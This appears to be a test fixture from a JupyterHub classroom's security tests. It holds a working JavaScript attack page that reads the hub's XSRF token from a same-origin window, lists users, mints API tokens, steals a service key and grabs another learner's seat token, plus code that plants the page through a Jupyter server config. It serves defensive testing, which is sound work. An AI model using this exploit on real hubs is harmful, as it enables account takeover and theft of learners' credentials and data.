"""A learner's planted page, as issue 37 found it: a real ``jupyter_server_config.py`` in her
folder makes her own server serve a folder of hers, unauthenticated, and the page in it tries
everything a page could do in the browser of whoever opens it (the classroom's gate tests).

The page reads the hub's address and the services' from its query (``?hub=...&tables=...&
progress=...``), its own address's by default; it records each attempt in ``window.attack``
and sets its title to ``done`` when it has tried them all.
"""

from __future__ import annotations

import os
from pathlib import Path

ATTACK = """<!doctype html>
<html><head><meta charset="utf-8"><title>ana's page</title></head><body><p>Hello</p>
<script>
// Everything a page on the hub's own address could do in the browser of whoever opens it.
// A page of the same address opened beside this one is this page's to read (the hub's own
// pages refuse to be framed, not to be opened).
const opened = async (src, ready) => {
  const w = window.open(src);
  for (let i = 0; i < 100; i++) {
    await new Promise((r) => setTimeout(r, 150));
    try { if (ready(w)) break; } catch (e) {}
  }
  return w;
};
const ask = async (url, init) => {
  try {
    const r = await fetch(url, {credentials: 'include', ...(init || {})});
    return {status: r.status, text: (await r.text()).slice(0, 2000)};
  } catch (e) { return {error: String(e)}; }
};
const out = {ran: true};
window.attack = out;
// Where the hub and the services are: this page's own address unless told (the test of
// --subdomain-host tells it theirs).
const given = new URLSearchParams(location.search);
const HUB = given.get('hub') || '';
const TABLES = given.get('tables') || '/services/tables/';
const PROGRESS = given.get('progress') || '/services/progress/';
const step = async (name, action) => {
  try { await action(); } catch (e) { out[name + 'Failed'] = String(e); }
};
(async () => {
  let xsrf = '';
  let name = '';
  let key = null;
  await step('xsrf', async () => {
    // The hub's XSRF token, read from a hub page opened beside this one.
    const hub = await opened(`${HUB}/hub/token`, (w) => w.jhdata && w.jhdata.xsrf_token);
    xsrf = hub.jhdata.xsrf_token;
  });
  await step('user', async () => {
    out.user = await ask(`${HUB}/hub/api/user`, {headers: {'X-XSRFToken': xsrf}});
    name = JSON.parse(out.user.text).name;
  });
  await step('users', async () => {
    out.users = await ask(`${HUB}/hub/api/users`, {headers: {'X-XSRFToken': xsrf}});
  });
  await step('progress', async () => { out.progress = await ask(`${PROGRESS}progress.csv`); });
  await step('token', async () => {
    out.token = await ask(`${HUB}/hub/api/users/${name || 'mx-lee'}/tokens`, {
      method: 'POST',
      headers: {'X-XSRFToken': xsrf, 'Content-Type': 'application/json'},
      body: JSON.stringify({note: 'planted by ana'}),
    });
  });
  await step('key', async () => {
    const tables = await opened(TABLES, (w) => w.location.hash.length > 1);
    key = new URLSearchParams(tables.location.hash.slice(1)).get('k');
  });
  if (key) {
    await step('seat', async () => {
      const listed = await ask(`${TABLES}api/tables`, {headers: {Authorization: `Bearer ${key}`}});
      const code = JSON.parse(listed.text)[0].code;
      out.seat = await ask(`${TABLES}api/tables/${code}/seats/ben/token`,
                           {method: 'POST', headers: {Authorization: `Bearer ${key}`}});
    });
  }
  document.title = 'done';
})();
</script></body></html>
"""

PLANT = """
import pathlib
home = pathlib.Path.home()
page = home / "planted"
page.mkdir(exist_ok=True)
(page / "attack.html").write_text({attack!r})
config = home / ".jupyter"
config.mkdir(exist_ok=True)
(config / "jupyter_server_config.py").write_text(
    f"c.ServerApp.extra_static_paths = [{{str(page)!r}}]\\n"
)
"""

CONFIG = "c.ServerApp.extra_static_paths = [{page!r}]\n"
PAGE = "/static/attack.html"
"""Where the planted page is served, under the learner's server's prefix."""


def plant_as_root(folder: Path) -> None:
    """Put the page and the configuration in a learner's folder before her server first
    starts (the classroom hands the whole folder to her account then), as if she had
    planted them in an earlier lesson."""
    page = folder / "planted"
    page.mkdir(parents=True, exist_ok=True)
    (page / "attack.html").write_text(ATTACK, encoding="utf-8")
    (folder / ".jupyter").mkdir(exist_ok=True)
    config = CONFIG.format(page=os.fspath(page))
    (folder / ".jupyter" / "jupyter_server_config.py").write_text(config, encoding="utf-8")
